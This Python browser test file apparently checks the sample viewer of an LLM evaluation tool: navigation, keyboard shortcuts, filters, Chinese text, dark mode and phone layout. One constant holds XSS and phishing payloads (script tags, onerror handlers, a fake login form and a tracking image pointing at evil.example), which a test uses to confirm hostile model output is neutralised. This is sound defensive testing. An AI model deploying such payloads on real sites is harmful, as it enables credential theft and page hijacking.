"""The way down from a cell of the leaderboard, in a real browser: keys, filters, languages, and text that does nothing."""

from __future__ import annotations

import json
import re

import msgspec
import pytest

from llmuses.records import Generate, Message, Mode, Prediction, Review
from llmuses.store import JsonlStore
from tests.support.fake_runs import FakeDataset, FakeRun

ATTACK = (
    "<script>window.hacked=1</script><img src=x onerror='window.hacked=2'><iframe src=/browse></iframe>"
    "<form action='http://evil.example/'><input name=q><button>Log in again</button></form>"
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>covered</div><a href='javascript:window.hacked=3'>a</a>"
    "\n\n![mark](http://evil.example/mark.png) [click](http://evil.example/) {{value}} {{#each this}}x{{/each}} "
    "${window.hacked=4} @children\n\n# Heading\n\n**bold**\n"
)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("outputs")
    FakeRun("alpha", {"gsm8k": FakeDataset(n=120, wrong=70, unparsed=3, rejected=2)}, run_id="alpha").write(folder)
    FakeRun("beta", {"gsm8k": FakeDataset(n=120, wrong=10)}, run_id="beta", started=1.7e9).write(folder)
    FakeRun("gamma", {"mmlu": FakeDataset(n=40, wrong=10, mode=Mode.LOGPROB)}, run_id="gamma").write(folder)
    _give_examples(folder / "alpha")
    _attack(FakeRun("delta", {"gsm8k": FakeDataset(n=4)}, run_id="delta").write(folder))
    return folder


def _give_examples(run):
    store = JsonlStore(run / "predictions" / "gsm8k.jsonl", Prediction)
    shots = "Question: 1 and 1?\nAnswer: 2\n\n"
    for each in list(store):
        text = shots + each.ask.messages[0].content
        ask = Generate(messages=(Message("user", text),), config=each.ask.config)
        store.append(msgspec.structs.replace(each, ask=ask, question_at=(0, len(shots)), shots=1))


def _attack(run):
    predictions = JsonlStore(run / "predictions" / "gsm8k.jsonl", Prediction)
    reviews = JsonlStore(run / "reviews" / "gsm8k.jsonl", Review)
    for each in list(predictions):
        ask = Generate(messages=(Message("user", ATTACK),), config=each.ask.config)
        response = msgspec.structs.replace(each.response, text=ATTACK, reasoning=ATTACK)
        predictions.append(msgspec.structs.replace(each, ask=ask, response=response))
    for review in list(reviews):
        reviews.append(msgspec.structs.replace(review, prompt=ATTACK[:160], extracted=ATTACK, target=ATTACK))


def go(page, path, heading=None):
    page.goto(path)
    page.locator("#main").wait_for()
    if heading:
        expect_here(page, heading)


def expect_here(page, words):
    page.locator("[aria-current=page]", has_text=re.compile(f"^{re.escape(words)}$")).first.wait_for()


def marked(page):
    """Return the number of the sample that the list marks as the current one."""
    return page.locator(".u-list li[aria-current] span.tn").first.inner_text()


# --- stories


def test_from_a_cell_to_a_sample_and_back(page):
    go(page, "leaderboard")
    page.locator("td a", has_text="37.5").first.click()
    page.locator("aside a", has_text="Read the").first.click()
    page.locator("#main .b-list").wait_for()
    assert "filter=not_correct" in page.url
    first = page.locator(".b-list td.name a").first
    words = first.inner_text()
    first.click()
    expect_here(page, "Sample 0")
    assert words in page.locator(".b-middle").inner_text()
    page.go_back()
    page.locator("#main .b-list").wait_for()
    page.go_back()
    page.locator("table.u-bench").wait_for()


def test_a_search_for_runs_is_in_the_address_and_counted_while_one_types(page):
    go(page, "browse")
    page.locator("#main [data-find]").click()
    page.keyboard.type("alp", delay=40)
    page.locator("#main form", has_text=re.compile(r"\d of \d+ runs")).wait_for()
    assert page.url.endswith("browse?q=alp")
    assert page.locator("#main [data-find]").input_value() == "alp"


def test_next_and_previous_by_key_stay_in_the_filter_and_in_the_address(page):
    go(page, "browse?run=alpha&dataset=gsm8k&filter=wrong&sample=main%2F1")
    seen = []
    for key in "jjjk":
        before = page.url
        page.keyboard.press(key)
        page.wait_for_url(lambda url, before=before: url != before)
        number = re.search(r"sample=main%2F(\d+)", page.url)[1]
        expect_here(page, f"Sample {number}")
        assert marked(page) == number
        assert page.locator(".b-middle .u-v.wrong").count() == 1
        seen.append(int(number))
    assert seen[:3] == sorted(seen[:3])
    assert seen[3] == seen[1]
    assert page.title().startswith(f"Sample {seen[3]} · GSM8K · alpha")


def test_going_back_retraces_the_samples(page):
    go(page, "browse?run=alpha&dataset=gsm8k&sample=main%2F5", "Sample 5")
    page.keyboard.press("j")
    expect_here(page, "Sample 6")
    page.go_back()
    expect_here(page, "Sample 5")
    assert "sample=main%2F5" in page.url


def test_a_field_that_is_typed_in_keeps_its_letters(page):
    go(page, "browse?run=alpha&dataset=gsm8k")
    page.locator("#main .b-find input").press_sequentially("114 jars")
    page.locator("#main", has_text="1 to 1 of 1").wait_for()
    assert page.locator("#main .b-find input").input_value() == "114 jars"
    assert "q=114+jars" in page.url or "q=114%20jars" in page.url


def test_the_examples_open_by_key_and_stay_open_on_the_next_sample(page):
    go(page, "browse?run=alpha&dataset=gsm8k&sample=main%2F5", "Sample 5")
    fold = page.locator("details[data-fold=examples]")
    assert not fold.locator(".u-text").is_visible()
    page.keyboard.press("f")
    fold.locator(".u-text", has_text="1 and 1?").wait_for()
    page.keyboard.press("j")
    expect_here(page, "Sample 6")
    fold.locator(".u-text", has_text="1 and 1?").wait_for()
    page.keyboard.press("f")
    fold.locator(".u-text").wait_for(state="hidden")


def test_the_next_disagreement_by_key_has_an_address_of_its_own(page):
    go(page, "browse?run=alpha&dataset=gsm8k&sample=main%2F5", "Sample 5")
    numbers = [5]
    for _ in range(3):
        page.keyboard.press("d")
        page.wait_for_url(lambda url: "jump" not in url and f"F{numbers[-1]}" not in url.rpartition("main")[2])
        numbers.append(int(re.search(r"sample=main%2F(\d+)", page.url)[1]))
        expect_here(page, f"Sample {numbers[-1]}")
    assert numbers == sorted(set(numbers))
    glyphs = {page.locator(".b-middle .u-v").first.get_attribute("class").split()[1]}
    glyphs |= {each.get_attribute("class") for each in page.locator(".b-others li > span:first-child").all()}
    assert "correct" in glyphs
    assert len(glyphs) > 1


def test_filters_narrow_the_list_and_the_address_reproduces_it(page, address):
    go(page, "browse?run=alpha&dataset=gsm8k")
    page.locator("label.g-chip", has_text="Unparsed").click()
    page.locator("#main", has_text="1 to 3 of 3").wait_for()
    assert "filter=unparsed" in page.url
    assert page.locator(".b-list tbody tr").count() == 3
    again = page.context.new_page()
    again.goto(page.url)
    again.locator(".b-list tbody tr").first.wait_for()
    assert again.locator(".b-list tbody tr").count() == 3
    page.locator("label.g-chip", has_text="All").click()
    page.locator("#main", has_text="1 to 50 of 120").wait_for()
    assert "filter" not in page.url
    page.get_by_role("link", name="The page after").click()
    page.locator("#main", has_text="51 to 100 of 120").wait_for()


def test_the_list_keeps_its_place_and_shows_the_current_sample(page):
    go(page, "browse?run=alpha&dataset=gsm8k&sample=main%2F45", "Sample 45")
    page.wait_for_function("document.querySelector('.b-scroll').scrollTop > 0")
    box = page.locator(".b-scroll").bounding_box()
    item = page.locator(".u-list li[aria-current]").bounding_box()
    assert box["y"] <= item["y"] <= box["y"] + box["height"] - item["height"]
    before = page.evaluate("document.querySelector('.b-scroll').scrollTop")
    page.locator(".b-side li a", has_text="47 jars").click()
    expect_here(page, "Sample 44")
    assert page.evaluate("document.querySelector('.b-scroll').scrollTop") == pytest.approx(before, abs=1)


def test_raw_records_are_really_json(page, address):
    go(page, "browse?run=alpha&dataset=gsm8k&sample=main%2F7", "Sample 7")
    for kind, field in (("prediction", "ask"), ("review", "status")):
        link = page.locator(".b-raw a", has_text=kind)
        answer = page.request.get(address + link.get_attribute("href"))
        assert answer.headers["content-type"] == "application/json"
        record = json.loads(answer.text())
        assert record["sample_id"] == "main/7"
        assert field in record


@pytest.mark.parametrize("view", ["", "&view=rendered"], ids=["as written", "rendered"])
def test_a_hostile_answer_does_nothing(page, address, view):
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    go(page, "browse?run=delta&dataset=gsm8k&sample=main%2F1" + view, "Sample 1")
    if view:
        page.locator(".u-prose h1", has_text="Heading").wait_for()
        assert page.locator(".u-prose strong", has_text="bold").count() == 1
    page.locator("details[data-fold=thinking] summary").click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.hacked") is None
    assert [url for url in asked if not url.startswith(address)] == []
    inside = page.locator("#main .b-middle")
    for tag in ("script", "img", "iframe", "form", "input", "[style*=position]"):
        assert inside.locator(tag).count() == 0, tag
    assert inside.locator("a:not([data-go])").count() == 0
    for words in ("{{value}}", "{{#each this}}", "${window.hacked=4}", "@children"):
        assert words in inside.inner_text()
    assert page.evaluate("document.elementFromPoint(720, 24).closest('header') !== null"), "nothing lies over the bar"


def test_chinese_is_complete_and_the_language_of_the_document(page):
    go(page, "browse?run=alpha&dataset=gsm8k&filter=wrong&sample=main%2F1&lang=zh")
    page.locator("h3", has_text="提示词").wait_for()
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    page.keyboard.press("j")
    page.locator("h3", has_text="提示词").wait_for()
    for words in ("标准答案", "其他模型在此题", "下一条", "未答对"):
        assert words in page.locator("#main").inner_text()


def test_dark_follows_the_system(window):
    page = window(color_scheme="dark").page
    go(page, "browse?run=gamma&dataset=mmlu&sample=anatomy%2F1")
    page.locator(".b-options").wait_for()
    colours = page.evaluate(
        "() => [getComputedStyle(document.body).backgroundColor, getComputedStyle(document.querySelector('.b-options td')).color]"
    )
    assert colours == ["rgb(18, 19, 22)", "rgb(233, 234, 236)"]


PHONE_PAGES = (
    "browse",
    "browse?run=alpha",
    "browse?run=alpha&dataset=gsm8k",
    "browse?run=alpha&dataset=gsm8k&filter=wrong&sample=main%2F5",
    "browse?run=gamma&dataset=mmlu&sample=anatomy%2F1",
    "browse?run=delta&dataset=gsm8k&sample=main%2F1&view=rendered",
)


def test_a_phone_never_scrolls_sideways_and_what_is_tapped_is_large_enough(window):
    page = window(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True).page
    wide, small = {}, {}
    for path in PHONE_PAGES:
        go(page, path)
        page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
        wide[path] = page.evaluate("document.documentElement.scrollWidth")
        small[path] = page.evaluate(
            """() => [...document.querySelectorAll('.b-turn a, .b-filters label, .b-filters select, .b-pager a, .b-list td.name a')]
                  .map((element) => element.matches('.b-list a') ? element.closest('tr') : element)
                  .filter((element) => element.offsetParent && element.getBoundingClientRect().height < 44)
                  .map((element) => element.outerHTML.slice(0, 80))"""
        )
    assert {path: width for path, width in wide.items() if width > 390} == {}
    assert {path: found for path, found in small.items() if found} == {}
